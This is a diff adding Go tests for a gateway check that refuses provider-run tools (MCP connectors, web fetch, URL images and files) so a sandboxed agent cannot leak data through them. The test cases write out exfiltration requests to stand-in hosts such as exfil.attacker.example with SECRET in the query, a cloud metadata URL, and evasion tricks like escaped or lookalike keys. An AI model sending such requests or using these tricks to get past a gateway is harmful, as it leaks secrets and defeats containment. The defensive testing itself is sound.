@@ -1,0 +1,203 @@
+package gateway
+
+import (
+	"bytes"
+	"compress/gzip"
+	"net/http"
+	"strings"
+	"testing"
+)
+
+// TestProviderRunToolsRefused: a sandbox whose only way out is custody
+// must not have the provider connect for it (the attack: the Anthropic
+// MCP connector, web fetch, OpenAI remote MCP, Gemini URL context, an
+// image by URL carrying data in its query). Each is refused with 403
+// naming the member, and nothing reaches the provider; a provider
+// configured with ProviderTools forwards them.
+func TestProviderRunToolsRefused(t *testing.T) {
+	cases := []struct {
+		name, provider, path, body, want string
+	}{
+		{"anthropic mcp connector", "anthropic", "/v1/messages",
+			`{"model":"claude-sonnet-4-5","max_tokens":64,"messages":[{"role":"user","content":"hi"}],"mcp_servers":[{"type":"url","url":"https://exfil.attacker.example/mcp","name":"x"}]}`,
+			"anthropic: /mcp_servers"},
+		{"anthropic web fetch", "anthropic", "/v1/messages",
+			`{"model":"claude-sonnet-4-5","max_tokens":64,"messages":[{"role":"user","content":"fetch https://exfil.attacker.example/?d=SECRET"}],"tools":[{"type":"web_fetch_20250910","name":"web_fetch"}]}`,
+			"anthropic: /tools/0 type web_fetch_20250910"},
+		{"anthropic image by URL", "anthropic", "/v1/messages",
+			`{"model":"claude-sonnet-4-5","max_tokens":64,"messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"https://exfil.attacker.example/i.png?d=SECRET"}}]}]}`,
+			"anthropic: /messages/0/content/0/source/url"},
+		{"openai responses remote mcp", "openai", "/v1/responses",
+			`{"model":"gpt-4.1","input":"hi","tools":[{"type":"mcp","server_label":"x","server_url":"https://exfil.attacker.example/sse","require_approval":"never"}]}`,
+			"openai: /tools/0 type mcp"},
+		{"openai chat image_url", "openai", "/v1/chat/completions",
+			`{"model":"gpt-4.1","messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"http://169.254.169.254/latest"}}]}]}`,
+			"openai: /messages/0/content/0/image_url/url"},
+		{"openai web_search_options", "openai", "/v1/chat/completions",
+			`{"model":"gpt-4o-search-preview","web_search_options":{},"messages":[]}`, "openai: /web_search_options"},
+		{"gemini url context", "gemini", "/v1beta/models/g:generateContent",
+			`{"contents":[{"parts":[{"text":"read https://exfil.attacker.example"}]}],"tools":[{"urlContext":{}}]}`, "gemini: /tools/0 member urlcontext"},
+		{"gemini file by URL", "gemini", "/v1beta/models/g:generateContent",
+			`{"contents":[{"parts":[{"fileData":{"mimeType":"text/html","fileUri":"https://exfil.attacker.example/x"}}]}]}`,
+			"gemini: /contents/0/parts/0/fileData/fileUri"},
+	}
+	e := newEnv(t, defaultPaths(map[string][]string{"openai": {"POST /v1/responses"}}))
+	tok := e.mint(t, Grant{Providers: []string{"anthropic", "openai", "gemini"}}).Token
+	for _, c := range cases {
+		t.Run(c.name, func(t *testing.T) {
+			before := len(e.up[c.provider].requests())
+			code, _, body := e.do(t, "POST", "/"+c.provider+c.path, bearer(tok), c.body)
+			if code != http.StatusForbidden || body != "provider-run tool not allowed for provider "+c.want+"\n" {
+				t.Errorf("= %d %q, want 403 naming %q", code, body, c.want)
+			}
+			if n := len(e.up[c.provider].requests()); n != before {
+				t.Errorf("the provider got the request")
+			}
+		})
+	}
+	allowed := newEnv(t, defaultPaths(map[string][]string{"openai": {"POST /v1/responses"}}), func(o *Options) {
+		for name, pc := range o.Providers {
+			pc.ProviderTools = true
+			o.Providers[name] = pc
+		}
+	})
+	atok := allowed.mint(t, Grant{Providers: []string{"anthropic", "openai", "gemini"}}).Token
+	for _, c := range cases {
+		if code, _, body := allowed.do(t, "POST", "/"+c.provider+c.path, bearer(atok), c.body); code != http.StatusOK {
+			t.Errorf("%s with ProviderTools: %d %q, want forwarded", c.name, code, body)
+		}
+	}
+}
+
+// TestProviderToolsBodyUnchecked: a body the gateway cannot read for
+// provider-run tools is refused, not forwarded unread.
+func TestProviderToolsBodyUnchecked(t *testing.T) {
+	e := newEnv(t, defaultPaths(nil))
+	tok := e.mint(t, Grant{Providers: []string{"anthropic", "openai"}}).Token
+	var gz bytes.Buffer
+	zw := gzip.NewWriter(&gz)
+	zw.Write([]byte(`{"model":"m","mcp_servers":[{"url":"https://x.example"}]}`))
+	zw.Close()
+	deep := strings.Repeat(`{"a":`, maxToolsDepth+2) + "1" + strings.Repeat("}", maxToolsDepth+2)
+	cases := []struct {
+		name, body string
+		hdr        map[string]string
+		code       int
+		want       string
+	}{
+		{"gzip", gz.String(), map[string]string{"Content-Encoding": "gzip"}, 400, "request body cannot be checked: content-encoded"},
+		{"not JSON", `{"model":"m",`, nil, 400, "request body cannot be checked: not JSON"},
+		{"NaN", `{"model":"m","temperature":NaN,"mcp_servers":[{"url":"https://x.example"}]}`, nil, 400, "request body cannot be checked: not JSON"},
+		{"two values", `{"model":"m"} {"mcp_servers":[{"url":"https://x.example"}]}`, nil, 400, "request body cannot be checked: not JSON"},
+		{"too deep", deep, nil, 400, "request body cannot be checked: nested too deep"},
+		{"JSON as multipart", `{"model":"m","mcp_servers":[{"url":"https://x.example"}]}`, map[string]string{"Content-Type": "multipart/form-data; boundary=x"}, 403, "provider-run tool not allowed for provider anthropic: /mcp_servers"},
+		{"too large", `{"model":"m","messages":[{"role":"user","content":"` + strings.Repeat("a", maxModelBody) + `"}]}`, nil, 413, "request body cannot be checked: over 16 MiB"},
+	}
+	before := len(e.up["anthropic"].requests())
+	for _, c := range cases {
+		h := bearer(tok)
+		for k, v := range c.hdr {
+			h[k] = v
+		}
+		if code, _, body := e.do(t, "POST", "/anthropic/v1/messages", h, c.body); code != c.code || body != c.want+"\n" {
+			t.Errorf("%s: = %d %q, want %d %q", c.name, code, body, c.code, c.want)
+		}
+	}
+	if n := len(e.up["anthropic"].requests()); n != before {
+		t.Errorf("the provider got %d of the refused requests", n-before)
+	}
+	// A real multipart body (no JSON parser reads it) is forwarded, to an
+	// endpoint the operator added.
+	e2 := newEnv(t, defaultPaths(map[string][]string{"openai": {"POST /v1/audio/transcriptions"}}))
+	tok2 := e2.mint(t, Grant{Providers: []string{"openai"}}).Token
+	h := bearer(tok2)
+	h["Content-Type"] = "multipart/form-data; boundary=x"
+	mp := "--x\r\nContent-Disposition: form-data; name=\"model\"\r\n\r\nwhisper-1\r\n--x--\r\n"
+	if code, _, body := e2.do(t, "POST", "/openai/v1/audio/transcriptions", h, mp); code != http.StatusOK {
+		t.Errorf("multipart: %d %q, want forwarded", code, body)
+	}
+}
+
+// TestProviderReach: what the checker finds in a body, and what it lets
+// through (ordinary requests of the SDKs, with caller-run tools).
+func TestProviderReach(t *testing.T) {
+	const own = "api.provider.example"
+	cases := []struct{ name, body, want string }{
+		// Let through.
+		{"plain chat", `{"model":"m","messages":[{"role":"user","content":"see https://example.com, url: https://x"}]}`, ""},
+		{"function tools", `{"model":"m","tools":[{"type":"function","function":{"name":"get","parameters":{"type":"object","properties":{"url":{"type":"string"},"server_url":{"type":"string"}}}}}]}`, ""},
+		{"anthropic custom tool", `{"tools":[{"name":"fetch","description":"d","input_schema":{"type":"object","properties":{"url":{"type":"string"}}},"cache_control":{"type":"ephemeral"}}]}`, ""},
+		{"anthropic client tools", `{"tools":[{"type":"bash_20250124","name":"bash"},{"type":"text_editor_20250728","name":"e"},{"type":"code_execution_20250825","name":"c"},{"type":"memory_20250818","name":"memory"}]}`, ""},
+		{"openai hosted local tools", `{"tools":[{"type":"code_interpreter","container":{"type":"auto"}},{"type":"file_search","vector_store_ids":["vs"]},{"type":"custom","name":"x"}]}`, ""},
+		{"gemini functions", `{"tools":[{"functionDeclarations":[{"name":"f","parameters":{"type":"object"}}]},{"code_execution":{}}]}`, ""},
+		{"data URL image", `{"messages":[{"content":[{"type":"image_url","image_url":{"url":"data:image/png;base64,AAAA"}}]}]}`, ""},
+		{"own host file", `{"contents":[{"parts":[{"fileData":{"fileUri":"https://api.provider.example/v1beta/files/abc"}}]}]}`, ""},
+		{"null mcp_servers", `{"mcp_servers":null,"tools":null}`, ""},
+		{"tools key below top level", `{"metadata":{"tools":[{"type":"web_search"}]}}`, ""},
+		// Found.
+		{"web search", `{"tools":[{"type":"web_search_20250305","name":"web_search"}]}`, "/tools/0 type web_search_20250305"},
+		{"openai web search", `{"tools":[{"type":"function","name":"f"},{"type":"web_search_preview"}]}`, "/tools/1 type web_search_preview"},
+		{"unknown future tool", `{"tools":[{"type":"web_browse_20270101"}]}`, "/tools/0 type web_browse_20270101"},
+		{"type case", `{"tools":[{"type":"MCP"}]}`, "/tools/0 type MCP"},
+		{"type not a string", `{"tools":[{"type":["function"]}]}`, "/tools/0 type not a string"},
+		{"duplicate type", `{"tools":[{"type":"function","type":"mcp"}]}`, "/tools/0 type mcp"},
+		{"camel type member", `{"tools":[{"Type":"web_fetch_20250910"}]}`, "/tools/0 type web_fetch_20250910"},
+		{"tools as object", `{"tools":{"googleSearch":{}}}`, "/tools member googlesearch"},
+		{"tool not an object", `{"tools":["web_search"]}`, "/tools/0 not an object"},
+		{"gemini search", `{"tools":[{"functionDeclarations":[]},{"google_search":{}}]}`, "/tools/1 member googlesearch"},
+		{"named gemini search", `{"tools":[{"name":"x","googleSearch":{}}]}`, "/tools/0 member googlesearch"},
+		{"camel mcpServers", `{"mcpServers":[]}`, "/mcpServers"},
+		{"escaped key", `{"mcp\u005fservers":[{"url":"https://x"}]}`, "/mcp_servers"},
+		{"long s key", "{\"mcp_\u017fervers\":[]}", "/mcp_?ervers"},
+		{"kelvin in tools", "{\"tools\":[{\"type\":\"function\"}],\"\u212aey\":1,\"TOOLS\":[{\"type\":\"mcp\"}]}", "/TOOLS/0 type mcp"},
+		{"duplicate tools", `{"tools":[],"tools":[{"type":"mcp"}]}`, "/tools/0 type mcp"},
+		{"nested mcp_servers", `{"extra_body":{"mcp_servers":[{}]}}`, "/extra_body/mcp_servers"},
+		{"http URL", `{"input":[{"content":[{"type":"input_image","image_url":"http://10.0.0.1/x"}]}]}`, "/input/0/content/0/image_url"},
+		{"file_url", `{"input":[{"content":[{"type":"input_file","file_url":"https://x.example/a.pdf"}]}]}`, "/input/0/content/0/file_url"},
+		{"gs URI", `{"contents":[{"parts":[{"file_data":{"file_uri":"gs://bucket/x"}}]}]}`, "/contents/0/parts/0/file_data/file_uri"},
+		{"own host by http", `{"x":{"url":"http://api.provider.example/f"}}`, "/x/url"},
+		{"own host with user", `{"x":{"url":"https://u@api.provider.example/f"}}`, "/x/url"},
+		{"own host spaced", `{"x":{"url":" https://api.provider.example/f"}}`, "/x/url"},
+		{"scheme-relative", `{"x":{"url":"//attacker.example/f"}}`, "/x/url"},
+		{"data lookalike", `{"x":{"url":"datax:foo"}}`, "/x/url"},
+		{"member name shown safely", `{"a\nb":{"url":"https://evil"}}`, "/a?b/url"},
+	}
+	for _, c := range cases {
+		got, err := providerReach([]byte(c.body), own)
+		if err != nil || got != c.want {
+			t.Errorf("%s: providerReach = %q, %v; want %q", c.name, got, err, c.want)
+		}
+	}
+}
+
+// BenchmarkProviderReach: the check's cost on an agent's request of
+// about 40 KB (a conversation of tool calls and results, 8 function
+// tools), reported per byte (MB/s) and per request.
+func BenchmarkProviderReach(b *testing.B) {
+	var sb strings.Builder
+	sb.WriteString(`{"model":"claude-sonnet-4-5","max_tokens":4096,"system":"You are a coding agent.","tools":[`)
+	for i := range 8 {
+		if i > 0 {
+			sb.WriteByte(',')
+		}
+		sb.WriteString(`{"name":"tool` + string(rune('a'+i)) + `","description":"does a thing to a file in the workspace","input_schema":{"type":"object","properties":{"path":{"type":"string"},"url":{"type":"string"}},"required":["path"]}}`)
+	}
+	sb.WriteString(`],"messages":[`)
+	for i := range 60 {
+		if i > 0 {
+			sb.WriteByte(',')
+		}
+		sb.WriteString(`{"role":"user","content":[{"type":"tool_result","tool_use_id":"toolu_01","content":"` + strings.Repeat("line of output from the tool ", 16) + `"}]},`)
+		sb.WriteString(`{"role":"assistant","content":[{"type":"text","text":"Next I will read the file."},{"type":"tool_use","id":"toolu_01","name":"toolb","input":{"path":"src/main.go"}}]}`)
+	}
+	sb.WriteString(`]}`)
+	body := []byte(sb.String())
+	if got, err := providerReach(body, "api.anthropic.com"); err != nil || got != "" {
+		b.Fatalf("providerReach = %q, %v", got, err)
+	}
+	b.SetBytes(int64(len(body)))
+	b.ReportAllocs()
+	for b.Loop() {
+		providerReach(body, "api.anthropic.com")
+	}
+}
